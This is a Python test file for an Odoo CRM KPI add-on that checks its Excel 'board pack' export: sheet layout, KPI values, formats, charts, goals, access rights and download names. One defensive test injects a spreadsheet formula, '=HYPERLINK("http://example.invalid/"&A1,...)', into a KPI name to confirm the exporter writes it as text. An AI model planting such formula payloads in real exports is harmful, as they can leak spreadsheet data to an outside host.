# Copyright 2026 crm_kpi contributors
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
import io
import json
from datetime import date
from urllib.parse import quote, unquote

from openpyxl import load_workbook

from odoo.exceptions import AccessError
from odoo.tests import HttpCase, new_test_user, tagged

from ..engine.tests.test_units import render_xlsx
from ..reports.crm_kpi_xlsx import GOAL_COLUMNS, sheet_name
from .common import KpiCase, dt

REPORT = "crm_kpi.report_kpi_board_pack"
PERCENT = '0.0 "%"'
EURO = '#,##0.00 "€"'
PP_DELTA = '+0.0 "pp";-0.0 "pp";0.0 "pp"'
RED, GREEN = "FFFFC7CE", "FFC6EFCE"


@tagged("post_install", "-at_install")
class TestXlsx(KpiCase):
    """The board pack of January-March 2026 (monthly), company in EUR, UTC.

    Opportunities (created → closed):
      J1 team A / user 1  01-05 → won  01-15 (10 days)
      J2 team A / user 1  01-06 → lost 01-20
      J3 team B / user 2  01-07 → won  01-27 (20 days)
      F1 team B / user 2  02-02 → lost 02-10
      M1 team A / user 1  03-01 → won  03-05 (4 days)
      M2 team B / user 2  03-02 → won  03-12 (10 days)
      M3 team B / user 2  03-03 → lost 03-20
      M4 team A / user 1  03-04 → lost 03-25
      Y1 team A / user 1  2025-03-01 → won 2025-03-11 (10 days)
      Y2 team A / user 1  2025-03-02 → lost 2025-03-20
    Confirmed orders of team A: P1 2026-01-10 1,000 EUR, P2 2026-03-15 500 EUR
    (both customers new in their month).

    Win rate (won / closed × 100; warning below 20, critical below 10):
      company  Jan 2/3 = 66.67  Feb 0/1 = 0 (red)  Mar 2/4 = 50  Mar 2025 1/2 = 50
      team A   Jan 1/2 = 50     Feb no row (n/a)   Mar 1/2 = 50  Mar 2025 1/2 = 50
      team B   Jan 1/1 = 100    Feb 0/1 = 0        Mar 1/2 = 50  Mar 2025 no row
    Sales cycle (days, lower is better):
      company  Jan (10+20)/2 = 15  Feb n/a  Mar (4+10)/2 = 7  Mar 2025 10
      team A   Jan 10              Feb n/a  Mar 4             Mar 2025 10
    Net new revenue (EUR): company Jan 1,000  Feb 0  Mar 500  Mar 2025 0
    """

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.eur = cls.env.ref("base.EUR")
        cls.eur.active = True
        cls.company.currency_id = cls.eur
        A, B, u1, u2 = cls.team_a, cls.team_b, cls.user_1, cls.user_2
        leads = [
            ("J1", dt(2026, 1, 5), A, u1, "won", dt(2026, 1, 15)),
            ("J2", dt(2026, 1, 6), A, u1, "lost", dt(2026, 1, 20)),
            ("J3", dt(2026, 1, 7), B, u2, "won", dt(2026, 1, 27)),
            ("F1", dt(2026, 2, 2), B, u2, "lost", dt(2026, 2, 10)),
            ("M1", dt(2026, 3, 1), A, u1, "won", dt(2026, 3, 5)),
            ("M2", dt(2026, 3, 2), B, u2, "won", dt(2026, 3, 12)),
            ("M3", dt(2026, 3, 3), B, u2, "lost", dt(2026, 3, 20)),
            ("M4", dt(2026, 3, 4), A, u1, "lost", dt(2026, 3, 25)),
            ("Y1", dt(2025, 3, 1), A, u1, "won", dt(2025, 3, 11)),
            ("Y2", dt(2025, 3, 2), A, u1, "lost", dt(2025, 3, 20)),
        ]
        for name, created, team, user, status, closed in leads:
            cls._lead(name, created, team, user, status=status, closed=closed)
        product = cls.env["product.product"].create(
            {"name": "KPI Board Service", "type": "service", "list_price": 1.0}
        )
        p1, p2 = cls.env["res.partner"].create(
            [
                {"name": "KPI Board P1", "is_company": True},
                {"name": "KPI Board P2", "is_company": True},
            ]
        )
        # orders in the company currency (a USD order would need a USD rate)
        pricelist = cls.env["product.pricelist"].create(
            {
                "name": "KPI Board EUR",
                "currency_id": cls.eur.id,
                "company_id": cls.company.id,
            }
        )
        for partner, when, amount in ((p1, dt(2026, 1, 10), 1000), (p2, dt(2026, 3, 15), 500)):
            order = cls.env["sale.order"].create(
                {
                    "partner_id": partner.id,
                    "company_id": cls.company.id,
                    "pricelist_id": pricelist.id,
                    "team_id": A.id,
                    "order_line": [
                        (
                            0,
                            0,
                            {
                                "product_id": product.id,
                                "product_uom_qty": 1,
                                "price_unit": amount,
                                "tax_ids": False,
                            },
                        )
                    ],
                }
            )
            order.action_confirm()
            cls._set_dates(order, date_order=when)
        cls.codes = ["win_rate", "sales_cycle", "net_new_revenue"]
        cls.kpis = cls.env["crm.kpi.definition"].search([("code", "in", cls.codes)])
        for day_from, day_to in ((date(2026, 1, 1), date(2026, 3, 31)), (date(2025, 3, 1), None)):
            cls.Snapshot.compute_snapshots(
                "month", day_from, day_to, kpi_codes=cls.codes, company_ids=[cls.company.id]
            )
        cls._mrr_movements(p1, p2)
        cls.Snapshot.compute_snapshots(
            "month",
            date(2026, 1, 1),
            date(2026, 3, 31),
            kpi_codes=["net_new_mrr"],
            company_ids=[cls.company.id],
        )
        cls.kpi_user = new_test_user(
            cls.env,
            "kpi_board_user",
            groups="crm_kpi.crm_kpi_group_user",
            company_id=cls.company.id,
            company_ids=[cls.company.id],
        )

    @classmethod
    def _mrr_movements(cls, p1, p2):
        """Ledger rows written by hand (after the revenue KPIs were computed):
        S1 (EUR) start 01-10 +100, pause 02-10 −100, upgrade 03-05 +200;
        S2 (USD, 2 USD per EUR) start 03-01 +50 USD = 25 EUR."""
        usd = cls.env.ref("base.USD")
        usd.active = True
        cls.env["res.currency.rate"].create(
            {"currency_id": usd.id, "company_id": cls.company.id, "name": "2026-01-01", "rate": 2.0}
        )
        template = cls.env["sale.subscription.template"].create({"name": "KPI board monthly"})
        pricelist = cls.env["product.pricelist"].create(
            {
                "name": "KPI board",
                "currency_id": cls.eur.id,
                "company_id": cls.company.id,
            }
        )
        s1, s2 = cls.env["sale.subscription"].create(
            [
                {
                    "partner_id": partner.id,
                    "company_id": cls.company.id,
                    "template_id": template.id,
                    "pricelist_id": pricelist.id,
                }
                for partner in (p1, p2)
            ]
        )
        cls.env["crm.kpi.subscription.movement"].sudo().create(
            [
                {
                    "subscription_id": sub.id,
                    "partner_id": sub.partner_id.id,
                    "company_id": cls.company.id,
                    "currency_id": currency.id,
                    "team_id": cls.team_a.id,
                    "date": day,
                    "movement_type": kind,
                    "mrr_before": before,
                    "mrr_after": after,
                }
                for sub, currency, day, kind, before, after in (
                    (s1, cls.eur, "2026-01-10", "start", 0, 100),
                    (s1, cls.eur, "2026-02-10", "pause", 100, 0),
                    (s1, cls.eur, "2026-03-05", "upgrade", 100, 300),
                    (s2, usd, "2026-03-01", "start", 0, 50),
                )
            ]
        )

    def _options(self, **overrides):
        return {
            "date_from": "2026-01-01",
            "date_to": "2026-03-31",
            "period_type": "month",
            "company_id": self.company.id,
            "scope": "team",
            "team_ids": [],
            "user_ids": [],
            "kpi_ids": self.kpis.ids,
            "include_goals": True,
            "include_definitions": True,
            **overrides,
        }

    def _render(self, ids=(), data=None, user=None):
        reports = self.env["ir.actions.report"]
        if user:
            reports = reports.with_user(user)
        content, kind = reports._render(REPORT, list(ids), data or {})
        self.assertEqual(kind, "xlsx")
        return load_workbook(io.BytesIO(content))

    def _rows_by_code(self, sheet, first_row=5):
        """{code: [cells D.. H]} of the KPI rows (row 4 is the header)."""
        rows = {}
        for row in sheet.iter_rows(min_row=first_row):
            if row[1].value:
                rows[row[1].value] = row
        return rows

    def _expected_sheets(self, *names):
        names = list(names)
        if "Movements" in names:  # the retention cohorts follow the MRR movements
            names.insert(names.index("Movements") + 1, "Cohorts")
        if "crm.kpi.goal" in self.env:
            names.insert(names.index("Definitions"), "Goals")
        return names

    def test_board_pack_from_options(self):
        book = self._render(data={"board_pack": self._options()})
        self.assertEqual(
            book.sheetnames,
            self._expected_sheets(
                "Summary", "Charts", "Team A", "Team B", "Movements", "Definitions"
            ),
        )
        self.assertEqual(book.properties.title, "KPI Board Pack - KPI Test Co")

        summary = book["Summary"]
        self.assertEqual(summary["A1"].value, "KPI Test Co: Whole company")
        self.assertEqual(
            [cell.value for cell in summary[4]],
            [
                "KPI",
                "Code",
                "Unit",
                "Jan 2026",
                "Feb 2026",
                "Mar 2026",
                "Δ vs previous (Feb 2026)",
                "Δ vs last year (Mar 2025)",
            ],
        )
        self.assertEqual(summary.freeze_panes, "D5")
        # catalog order: sales cycle (40), win rate (140), net new revenue (160)
        self.assertEqual(
            [summary.cell(row, 2).value for row in (5, 6, 7)],
            [
                "sales_cycle",
                "win_rate",
                "net_new_revenue",
            ],
        )
        rows = self._rows_by_code(summary)
        win_rate = rows["win_rate"]
        self.assertEqual(win_rate[0].value, "Win Rate")
        self.assertEqual(win_rate[2].value, "Percent")
        self.assertAlmostEqual(win_rate[3].value, 66.6667, places=3)  # 2 / 3
        self.assertEqual(win_rate[4].value, 0)  # 0 / 1, below 10: critical
        self.assertEqual(win_rate[5].value, 50)  # 2 / 4
        self.assertEqual(win_rate[6].value, 50)  # 50 − 0 (February)
        self.assertEqual(win_rate[7].value, 0)  # 50 − 50 (March 2025)
        self.assertEqual(win_rate[3].number_format, PERCENT)
        self.assertEqual(win_rate[6].number_format, PP_DELTA)
        self.assertEqual(win_rate[4].fill.fgColor.rgb, RED)
        self.assertEqual(win_rate[5].fill.fgColor.rgb, GREEN)

        cycle = rows["sales_cycle"]
        # 15, n/a (nothing won in February), 7, Δ previous n/a, 7 − 10 = −3
        self.assertEqual([c.value for c in cycle[3:8]], [15, "n/a", 7, "n/a", -3])
        self.assertEqual(cycle[3].number_format, '0.0 "days"')
        self.assertEqual(cycle[3].fill.fill_type, None)  # no thresholds: no colour

        revenue = rows["net_new_revenue"]
        self.assertEqual(revenue[2].value, "EUR")
        # 1,000, 0, 500, 500 − 0, 500 − 0
        self.assertEqual([c.value for c in revenue[3:8]], [1000, 0, 500, 500, 500])
        self.assertEqual(revenue[3].number_format, EURO)
        self.assertEqual(revenue[6].number_format, f"+{EURO};-{EURO};{EURO}")
        # Δ cells are coloured by conditional formats (better / worse)
        self.assertTrue(summary.conditional_formatting)

        team_a = self._rows_by_code(book["Team A"])
        self.assertEqual(book["Team A"]["A1"].value, "KPI Test Co: Sales team: Team A")
        # 50, n/a (no row), 50, n/a, 50 − 50
        self.assertEqual([c.value for c in team_a["win_rate"][3:8]], [50, "n/a", 50, "n/a", 0])
        # 10, n/a, 4, n/a, 4 − 10
        self.assertEqual([c.value for c in team_a["sales_cycle"][3:8]], [10, "n/a", 4, "n/a", -6])
        # the orders are team A's: 1,000, no row in February, 500
        self.assertEqual(team_a["net_new_revenue"][3].value, 1000)
        team_b = self._rows_by_code(book["Team B"])
        # 100, 0, 50, 50 − 0, no team B row in March 2025
        self.assertEqual([c.value for c in team_b["win_rate"][3:8]], [100, 0, 50, 50, "n/a"])
        self.assertEqual([c.value for c in team_b["net_new_revenue"][3:8]], ["n/a"] * 5)

        charts = book["Charts"]
        # A chart needs three values: win rate (66.7, 0, 50) and net new
        # revenue (1,000, 0, 500) have them; the sales cycle (15, n/a, 7) not.
        self.assertEqual(len(charts._charts), 2)
        self.assertEqual(
            [charts["A5"].value, charts["A6"].value, charts["A7"].value],
            ["Win Rate", "Net New Revenue", None],
        )
        self.assertEqual(charts["B4"].value, "Jan 2026")
        self.assertFalse(charts.print_title_rows)  # would print over the charts
        self.assertTrue(summary.print_title_rows)

        movements = book["Movements"]
        self.assertEqual(
            [movements.cell(row, 1).value for row in range(5, 15)],
            [
                "Start",
                "Renewal",
                "Upgrade",
                "Downgrade",
                "Pause",
                "Resume",
                "Close",
                "Reactivation",
                "Net new MRR from the ledger (EUR)",
                "Net new MRR (KPI)",
            ],
        )

        def line(row):
            return [movements.cell(row, col).value for col in (2, 3, 4)]

        self.assertEqual(line(5), [100, 0, 0])  # starts: the USD one is left out
        self.assertEqual(line(7), [0, 0, 200])  # upgrade
        self.assertEqual(line(9), [0, -100, 0])  # pause: not part of net new MRR
        self.assertEqual(line(13), [100, 0, 200])
        # the KPI converts: March 200 + 50 USD / 2 = 225
        self.assertEqual(line(14), [100, 0, 225])
        self.assertEqual(movements["B13"].number_format, EURO)

        definitions = book["Definitions"]
        self.assertEqual(
            [c.value for c in definitions[4]][:4], ["Code", "KPI", "Area", "Formula / description"]
        )
        win_rate_row = next(r for r in definitions.iter_rows(min_row=5) if r[0].value == "win_rate")
        self.assertEqual(
            [c.value for c in win_rate_row[4:9]],
            [
                "Percent",
                "Higher is better",
                "Ratio (sum of numerators / sum of denominators)",
                20,
                10,
            ],
        )

    def test_dashboard_and_workbook_agree(self):
        """The dashboard's text of each value and Δ of March 2026 is what
        Excel shows for the workbook's number in its number format (one
        table of units): 50.0 %, +50.0 pp, 7.0 days, 500.00 €, +500.00 €."""
        book = self._render(data={"board_pack": self._options(scope="company")})
        rows = self._rows_by_code(book["Summary"])
        data = (
            self.env["crm.kpi.dashboard"]
            .with_company(self.company)
            .get_dashboard_data("month", "2026-03-15")
        )
        cards = {card["code"]: card for card in data["cards"]}

        def shown(cell):
            return (
                cell.value
                if isinstance(cell.value, str)
                else render_xlsx(cell.number_format, cell.value)
            )

        texts = {}
        for code in self.codes:
            card, row = cards[code], rows[code]
            with self.subTest(code=code):
                self.assertEqual(card["value_text"], shown(row[5]))
                delta = card["delta_previous"]["text"] if card["delta_previous"] else "n/a"
                self.assertEqual(delta, shown(row[6]))
                texts[code] = (card["value_text"], delta)
        self.assertEqual(
            texts,
            {
                "win_rate": ("50.0 %", "+50.0 pp"),
                "sales_cycle": ("7.0 days", "n/a"),
                "net_new_revenue": ("500.00 €", "+500.00 €"),
            },
        )

    def test_sheets_and_columns_are_data(self):
        """What an inheriting add-on extends: the list of sheets and the
        columns of a KPI sheet."""
        Report = self.env["report.crm_kpi.report_kpi_board_pack"]
        pack = Report._prepare_pack_from_options(self._options())
        methods = [params["method"] for params in Report._get_ws_params(pack)]
        self.assertEqual(methods[:3], ["_write_kpi_sheet", "_write_charts", "_write_kpi_sheet"])
        self.assertEqual(methods[-2:], ["_write_goals", "_write_definitions"])
        summary = pack.sheets[0]
        columns = Report._kpi_sheet_columns(pack, summary, summary.read_board())
        self.assertEqual(
            [(column["key"], column["header"]) for column in columns],
            [
                ("name", "KPI"),
                ("code", "Code"),
                ("unit", "Unit"),
                ("month:2026-01-01", "Jan 2026"),
                ("month:2026-02-01", "Feb 2026"),
                ("month:2026-03-01", "Mar 2026"),
                ("delta_previous", "Δ vs previous (Feb 2026)"),
                ("delta_last_year", "Δ vs last year (Mar 2025)"),
            ],
        )

    def _count_queries(self, data):
        self.env.invalidate_all()
        before = self.env.cr.sql_log_count
        self._render(data=data)
        return self.env.cr.sql_log_count - before

    def test_queries_do_not_grow_with_rows(self):
        """One search per sheet: three KPIs cost the queries of one."""
        win_rate = self.kpis.filtered(lambda k: k.code == "win_rate")
        self._count_queries({"board_pack": self._options()})  # warm the caches
        one = self._count_queries({"board_pack": self._options(kpi_ids=win_rate.ids)})
        three = self._count_queries({"board_pack": self._options()})
        self.assertEqual(one, three)
        self.assertLessEqual(three, 40)

    def test_salesperson_sheets_and_options(self):
        book = self._render(
            data={
                "board_pack": self._options(
                    scope="user",
                    user_ids=[self.user_2.id],
                    include_goals=False,
                    include_definitions=False,
                )
            }
        )
        # a sheet name holds at most 31 characters
        seller = sheet_name(self.user_2.name)
        self.assertEqual(book.sheetnames, ["Summary", "Charts", seller, "Movements", "Cohorts"])
        self.assertEqual(book[seller]["A1"].value, f"KPI Test Co: Salesperson: {self.user_2.name}")
        rows = self._rows_by_code(book[seller])
        # user 2 = team B: 100, 0, 50
        self.assertEqual([c.value for c in rows["win_rate"][3:6]], [100, 0, 50])

    def test_goals_sheet(self):
        Goal = self.env["crm.kpi.goal"]
        goal = Goal.create(
            {
                "name": "Win more deals",
                "kpi_id": self.env.ref("crm_kpi.crm_kpi_definition_win_rate").id,
                "scope": "team",
                "team_id": self.team_a.id,
                "company_id": self.company.id,
                "date_start": "2026-01-01",
                "deadline": "2026-03-31",
                "baseline_value": 20,
                "target_value": 60,
            }
        )
        goal.action_start()
        book = self._render(data={"board_pack": self._options(scope="company")})
        # the fixed columns of the goal model, in order, then one row per goal
        columns = [name for name in GOAL_COLUMNS if name in Goal._fields]
        strings = Goal.fields_get(columns, ["string"])
        sheet = book["Goals"]
        self.assertEqual(
            [cell.value for cell in sheet[4]], [strings[name]["string"] for name in columns]
        )
        row = {name: sheet[5][index].value for index, name in enumerate(columns)}
        self.assertEqual(row["name"], "Win more deals")
        self.assertEqual(row["team_id"], "Team A")
        self.assertEqual(row["target_value"], 60)
        self.assertEqual(row["baseline_value"], 20)
        self.assertAlmostEqual(row["current_value"], goal.current_value, places=4)
        self.assertEqual(
            row["status"],
            dict(Goal._fields["status"]._description_selection(self.env))[goal.status],
        )
        # without goals asked for, no sheet
        book = self._render(
            data={"board_pack": self._options(scope="company", include_goals=False)}
        )
        self.assertNotIn("Goals", book.sheetnames)

    def test_board_pack_of_selected_snapshots(self):
        snapshots = self.Snapshot.search(
            [
                ("company_id", "=", self.company.id),
                ("kpi_code", "=", "win_rate"),
                ("date_start", ">=", "2026-01-01"),
                ("dimension", "in", ["company", "team"]),
            ]
        )
        book = self._render(snapshots.ids)
        self.assertEqual(
            book.sheetnames,
            self._expected_sheets(
                "Summary", "Charts", "Team A", "Team B", "Movements", "Definitions"
            ),
        )
        rows = self._rows_by_code(book["Summary"])
        self.assertEqual(list(rows), ["win_rate"])
        # March 2025 was not selected: Δ vs last year is n/a
        self.assertEqual(rows["win_rate"][6].value, 50)
        self.assertEqual(rows["win_rate"][7].value, "n/a")

    def test_wizard(self):
        wizard = (
            self.env["crm.kpi.export.wizard"]
            .with_company(self.company)
            .create(
                {
                    "date_from": "2026-01-01",
                    "date_to": "2026-03-31",
                    "scope": "team",
                    "team_ids": [(6, 0, self.team_a.ids)],
                }
            )
        )
        self.assertEqual(wizard.kpi_ids, self.env["crm.kpi.definition"].search([]))
        action = wizard.action_export()
        self.assertEqual(action["type"], "ir.actions.report")
        self.assertEqual(action["report_name"], REPORT)
        options = action["data"]["board_pack"]
        self.assertEqual(options["team_ids"], self.team_a.ids)
        self.assertEqual(options["company_id"], self.company.id)
        book = self._render(data=action["data"])
        self.assertEqual(book.sheetnames[:3], ["Summary", "Charts", "Team A"])
        # opened from selected snapshots: their range, period type and KPIs
        march = self.Snapshot.search(
            [
                ("company_id", "=", self.company.id),
                ("date_start", "=", "2026-03-01"),
                ("kpi_code", "=", "win_rate"),
            ]
        )
        defaults = (
            self.env["crm.kpi.export.wizard"]
            .with_context(
                active_model="crm.kpi.snapshot",
                active_ids=march.ids,
            )
            .default_get(["date_from", "date_to", "period_type", "kpi_ids", "company_id"])
        )
        self.assertEqual(defaults["date_from"], date(2026, 3, 1))
        self.assertEqual(defaults["date_to"], date(2026, 3, 31))
        self.assertEqual(defaults["company_id"], self.company.id)
        self.assertTrue(self.env.ref("crm_kpi.crm_kpi_menu_reporting"))

    def test_kpi_user_exports_with_own_rights(self):
        book = self._render(data={"board_pack": self._options()}, user=self.kpi_user)
        rows = self._rows_by_code(book["Summary"])
        self.assertAlmostEqual(rows["win_rate"][3].value, 66.6667, places=3)

    def test_kpi_user_of_another_company_exports_nothing(self):
        other = self.env["res.company"].create({"name": "KPI Other Co"})
        outsider = new_test_user(
            self.env,
            "kpi_board_outsider",
            groups="crm_kpi.crm_kpi_group_user",
            company_id=other.id,
            company_ids=[other.id],
        )
        snapshots = self.Snapshot.search([("company_id", "=", self.company.id)])
        self.assertTrue(snapshots)
        book = self._render(snapshots.ids, user=outsider)
        self.assertEqual(book.properties.title, "KPI Board Pack - KPI Other Co")
        summary = book["Summary"]
        self.assertEqual([c.value for c in summary[4]], ["KPI", "Code", "Unit"])
        self.assertEqual(summary["A5"].value, "No KPI to show.")
        self.assertNotIn("Movements", book.sheetnames)
        with self.assertRaises(AccessError):
            self._render(data={"board_pack": self._options()}, user=outsider)

    def test_user_text_is_never_a_formula(self):
        """A KPI renamed (and described) as a formula by a KPI Manager is
        written as that text on every sheet, never as a live formula that
        would run in every reader's spreadsheet."""
        win_rate = self.kpis.filtered(lambda kpi: kpi.code == "win_rate")
        win_rate.write(
            {
                "name": '=HYPERLINK("http://example.invalid/"&A1,"open")',
                "description": "=1+1",
            }
        )
        book = self._render(data={"board_pack": self._options()})
        texts = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    self.assertNotEqual(
                        cell.data_type, "f", f"formula in {sheet.title}!{cell.coordinate}"
                    )
                    if isinstance(cell.value, str) and cell.value.startswith("="):
                        texts.append((sheet.title, cell.value))
        # Summary, Charts, the two team sheets: the name; Definitions: both
        names = [sheet for sheet, text in texts if text.startswith("=HYPERLINK")]
        self.assertEqual(
            sorted(set(names)), ["Charts", "Definitions", "Summary", "Team A", "Team B"]
        )
        self.assertIn(("Definitions", "=1+1"), texts)

    def test_unavailable_kpis_are_left_out(self):
        """A KPI whose model is not installed (e.g. ticket resolution time
        without a helpdesk) has no row on any sheet nor in Definitions."""
        win_rate = self.kpis.filtered(lambda kpi: kpi.code == "win_rate")
        win_rate.required_model = "crm_kpi.model.not.installed"
        book = self._render(data={"board_pack": self._options()})
        for title in ("Summary", "Team A", "Definitions"):
            codes = [
                row[0 if title == "Definitions" else 1].value
                for row in book[title].iter_rows(min_row=5)
            ]
            self.assertIn("sales_cycle", codes)
            self.assertNotIn("win_rate", codes, title)

    def test_columns_fit_their_headers_and_names(self):
        """Every header and KPI name is readable without widening a column:
        the width (in characters) is at least the text's length."""
        self.kpis.filtered(
            lambda kpi: kpi.code == "win_rate"
        ).name = "Win rate of qualified opportunities handed over by marketing"  # 60 characters
        self.env["crm.kpi.goal"].with_company(self.company).create(
            {
                "name": "Win more",
                "kpi_id": self.kpis.filtered(lambda kpi: kpi.code == "win_rate").id,
                "scope": "company",
                "company_id": self.company.id,
                "date_start": "2026-01-01",
                "deadline": "2026-03-31",
                "baseline_value": 20,
                "target_value": 40,
            }
        )
        book = self._render(data={"board_pack": self._options()})
        for title in ("Summary", "Goals", "Definitions"):
            sheet = book[title]
            for row in (4, 5, 6, 7):
                for cell in sheet[row]:
                    if not isinstance(cell.value, str) or (
                        title == "Definitions" and cell.column == 4
                    ):
                        continue  # the description column wraps its text
                    width = sheet.column_dimensions[cell.column_letter].width
                    with self.subTest(sheet=title, cell=cell.coordinate):
                        self.assertGreaterEqual(width, min(len(cell.value), 58))

    def test_file_name_says_company_and_range(self):
        Report = self.env["report.crm_kpi.report_kpi_board_pack"]
        self.assertEqual(
            Report._kpi_file_name(self._options()),
            "KPI Board Pack - KPI Test Co - Jan 2026 to Mar 2026",
        )
        self.assertEqual(
            Report._kpi_file_name(self._options(period_type="quarter", date_to="2026-02-01")),
            "KPI Board Pack - KPI Test Co - Q1 2026",
        )
        march = self.Snapshot.search(
            [
                ("company_id", "=", self.company.id),
                ("date_start", "=", "2026-03-01"),
                ("period_type", "=", "month"),
                ("dimension", "=", "company"),
            ]
        )
        self.assertEqual(
            Report._kpi_file_name(None, march.ids), "KPI Board Pack - KPI Test Co - Mar 2026"
        )


@tagged("post_install", "-at_install")
class TestXlsxDownload(HttpCase):
    def test_download_is_named_after_company_and_range(self):
        """The workbook downloaded from the export wizard's URL carries its
        name in Content-Disposition and opens with openpyxl."""
        self.authenticate("admin", "admin")
        company = self.env.ref("base.main_company")
        options = {
            "board_pack": {
                "date_from": "2026-01-01",
                "date_to": "2026-03-31",
                "period_type": "month",
                "company_id": company.id,
                "scope": "company",
                "team_ids": [],
                "user_ids": [],
                "kpi_ids": [],
                "include_goals": False,
                "include_definitions": True,
            }
        }
        response = self.url_open(f"/report/xlsx/{REPORT}?options={quote(json.dumps(options))}")
        self.assertEqual(response.status_code, 200)
        disposition = unquote(response.headers["Content-Disposition"])
        self.assertIn(f"KPI Board Pack - {company.name} - Jan 2026 to Mar 2026.xlsx", disposition)
        book = load_workbook(io.BytesIO(response.content))
        self.assertIn("Definitions", book.sheetnames)
